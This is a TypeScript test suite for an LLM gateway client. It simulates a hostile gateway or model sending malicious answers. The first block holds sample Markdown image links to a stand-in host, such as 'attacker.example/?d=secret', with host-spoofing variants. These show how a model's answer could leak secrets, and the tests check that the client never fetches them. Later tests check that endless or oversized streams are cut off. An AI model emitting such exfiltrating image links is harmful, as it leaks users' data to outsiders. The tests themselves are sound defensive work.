import { createServer, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, describe, expect, it, vi } from "vitest";
import type { createGatewayClient } from "../../../src/gateway/client.ts";
import { createTestClient, failureOf, hello, never, outcomeOf, pixel, pixelUri } from "./harness.ts";

/** These tests do what a gateway, or a model behind it, can do to the client. */

const closers: (() => Promise<unknown>)[] = [];

afterEach(async () => {
  for (const close of closers.splice(0).toReversed()) await close();
});

async function start(
  answer: (response: ServerResponse) => void,
  options: Partial<Parameters<typeof createGatewayClient>[0]> = {},
) {
  const server = createServer((request, response) => {
    request.resume();
    answer(response);
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => server.once("listening", resolve));
  const baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const client = createTestClient(baseUrl, {
    retryRules: { maxAttempts: 1, baseDelayMs: 1, maxDelayMs: 1 },
    // Server and client share one busy process.
    timeouts: { connectMs: 10_000, firstEventMs: 10_000, idleMs: 10_000, totalMs: 50_000 },
    ...options,
  });
  closers.push(
    () => new Promise((resolve) => server.close(resolve)),
    async () => server.closeAllConnections(),
    () => client.close(),
  );
  return { client, baseUrl };
}

const event = (delta: object, finish: string | null = null) =>
  `data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
const done = event({}, "stop") + "data: [DONE]\n\n";

// Attack: Exfiltrate by a Markdown image in an answer. What holds: only hosts of `IMAGE_HOSTS` and
// the gateway's own are opened, without redirects; other links stay text; the key goes to the
// gateway's own origin alone.
describe("a Markdown image in an answer", () => {
  it.each([
    "https://attacker.example/?d=secret",
    "http://attacker.example/?d=secret",
    "https://127.0.0.1/?d=secret",
    "https://pictures.example.attacker.example/?d=secret",
    "https://pictures.example@attacker.example/?d=secret",
    "https://pictures.example:444/?d=secret",
    "//attacker.example/?d=secret",
  ])("at %s is not fetched and stays text", async (url) => {
    const downloadImage = vi.fn(() => Promise.resolve(pixel));
    const text = `see ![x](${url}) and ![y](<${url}> "title")`;
    const { client } = await start((response) => response.end(event({ content: text }) + done), {
      downloadImage,
      imageHosts: ["pictures.example"],
    });
    expect(await outcomeOf(client.chat(hello, never()))).toEqual({
      text,
      finish: "stop",
      last: expect.anything() as unknown,
    });
    expect(downloadImage).not.toHaveBeenCalled();
  });

  it("is shown from hosts in the settings, from the gateway itself and from data URIs", async () => {
    const linked: string[] = [];
    let text = "";
    const { client, baseUrl } = await start((response) => response.end(event({ content: text }) + done), {
      downloadImage: (url, _, link) => {
        linked.push(`${link} ${url}`);
        return Promise.resolve(Buffer.concat([pixel, Buffer.from([linked.length])]));
      },
      imageHosts: ["pictures.example"],
    });
    const urls = ["https://pictures.example/a.png", `${baseUrl}/pictures/b.png`];
    text = `${urls.map((url) => `![x](${url})`).join("")}![z](${pixelUri})`;
    expect(await outcomeOf(client.chat(hello, never()))).toMatchObject({
      text: "",
      images: ["image/png", "image/png", "image/png"],
    });
    expect(linked).toEqual(urls.map((url) => `markdown ${url}`));
  });
});

describe("an endless answer", () => {
  it.each([
    ["text", { content: "x".repeat(20_000) }],
    ["reasoning", { content: "", reasoning: "x".repeat(20_000) }],
    ["events without content", {}],
    ["data URIs", { content: `![x](${pixelUri.slice(0, 60)}` }],
  ])("of %s is cut, and the request is ended", async (_, delta) => {
    let isClosed = false;
    const { client } = await start((response) => {
      response.writeHead(200, { "content-type": "text/event-stream" });
      response.once("close", () => (isClosed = true));
      response.write(event({ content: "first" }));
      const many = event(delta).repeat(20);
      const push = (): void => {
        while (!response.destroyed) if (!response.write(many)) return void response.once("drain", push);
      };
      push();
    });
    const before = process.memoryUsage().rss;
    const outcome = await outcomeOf(client.chat({ ...hello, maxTokens: 1024 }, never()));
    expect(outcome).toMatchObject({ finish: "length" });
    expect(outcome.notices?.at(-1)).toBe("The answer went far beyond the 1024 tokens asked for, and is cut.");
    expect(outcome.text.length).toBeLessThan(150_000);
    expect((outcome.reasoning ?? "").length).toBeLessThan(6_000_000);
    await vi.waitFor(() => expect(isClosed).toBe(true));
    expect(process.memoryUsage().rss - before).toBeLessThan(300 * 1024 * 1024);
  });

  it("of blanks is cut before it has begun", async () => {
    let written = 0;
    let isClosed = false;
    const many = event({ content: " ".repeat(20_000) });
    const { client } = await start((response) => {
      response.writeHead(200, { "content-type": "text/event-stream" });
      response.once("close", () => (isClosed = true));
      const push = (): void => {
        while (!response.destroyed) {
          written += many.length;
          if (!response.write(many)) return void response.once("drain", push);
        }
      };
      push();
    });
    const outcome = await outcomeOf(client.chat({ ...hello, maxTokens: 1024 }, never()));
    expect(outcome).toMatchObject({ text: "", error: "gateway-bad-answer" });
    await vi.waitFor(() => expect(isClosed).toBe(true));
    expect(written).toBeLessThan(5_000_000);
  });

  it.each([
    ["lines of one event", "", "data:x\n"],
    ["JSON in lines of one event", "", "data:{}\n"],
    ["empty lines of one event", "", "data:\n"],
    ["comments", "", ":\n"],
    ["empty events", "", "data:\n\n"],
    ["lines that are no field", "", "x\n"],
    ["lines that begin JSON", ":\n", "{\n"],
    ["lines that end JSON", ":\n{\n", "}\n"],
    ["lines of JSON", "{}\n", "{}\n"],
    ["lines after JSON that are none", "{}\n", "x\n"],
    ["values of one line of JSON", "[", "{},"],
    ["blank lines", "", "\n"],
  ])("of %s ends", async (_, begin, line) => {
    let written = 0;
    let isClosed = false;
    const many = line.repeat(Math.ceil(60_000 / line.length));
    const { client } = await start((response) => {
      response.writeHead(200, { "content-type": "text/event-stream" });
      response.once("close", () => (isClosed = true));
      response.write(begin);
      const push = (): void => {
        while (!response.destroyed && written < 200_000_000) {
          written += many.length;
          if (!response.write(many)) return void response.once("drain", push);
        }
      };
      push();
    });
    const outcome = await outcomeOf(client.chat({ ...hello, maxTokens: 1024 }, never()));
    expect(outcome).toMatchObject({ text: "", error: "gateway-bad-answer" });
    await vi.waitFor(() => expect(isClosed).toBe(true));
    expect(written).toBeLessThan(100_000_000);
  });

  it("of images is cut after ten", async () => {
    const images = Array.from({ length: 50 }, (_, index) => {
      const bytes = Buffer.concat([pixel, Buffer.from([index])]);
      return event({ images: [{ image_url: { url: `data:image/png;base64,${bytes.toString("base64")}` } }] });
    });
    const { client } = await start((response) => response.end(images.join("") + done));
    const outcome = await outcomeOf(client.chat(hello, never()));
    expect(outcome.images).toHaveLength(10);
    expect(outcome.finish).toBe("length");
  });

  it("that is one document of 97 MB is refused", async () => {
    const { client } = await start((response) => {
      response.write('{"choices":[{"message":{"content":"');
      const chunk = Buffer.alloc(1024 * 1024, "x");
      let sent = 0;
      const push = (): void => {
        while (!response.destroyed && sent++ < 97)
          if (!response.write(chunk)) return void response.once("drain", push);
        response.end('"},"finish_reason":"stop"}]}');
      };
      push();
    });
    expect(await failureOf(client.chat(hello, never()))).toMatchObject({ code: "gateway-bad-answer" });
  });

  it.each(["[".repeat(3_000_000), `{"choices":[${"{},".repeat(3_000_000)}{}]}`])(
    "of nested or many values is refused before it is parsed",
    async (body) => {
      const { client } = await start((response) => response.end(body), { maxImageBytes: 20_000_000 });
      expect(await failureOf(client.chat(hello, never()))).toMatchObject({ code: "gateway-bad-answer" });
    },
  );

  it("in headers or a model list is bounded", async () => {
    const large = await start((response) => {
      response.writeHead(200, { "x-large": "x".repeat(40_000) });
      response.end("{}");
    });
    expect(await failureOf(large.client.chat(hello, never()))).toMatchObject({ code: "gateway-unreachable" });
    const data = Array.from({ length: 20_000 }, (_, index) => ({ id: `m${index}` }));
    const list = await start((response) => response.end(JSON.stringify({ data })));
    expect(await list.client.listModels(never())).toHaveLength(5000);
  });

  it("of an image generation has no more images than were asked for", async () => {
    const data = Array.from({ length: 100 }, () => ({ b64_json: pixel.toString("base64") }));
    const { client } = await start((response) => response.end(JSON.stringify({ data })));
    const request = { model: "m", prompt: "a fox", count: 2 };
    expect((await client.generateImages(request, never())).images).toHaveLength(2);
  });
});
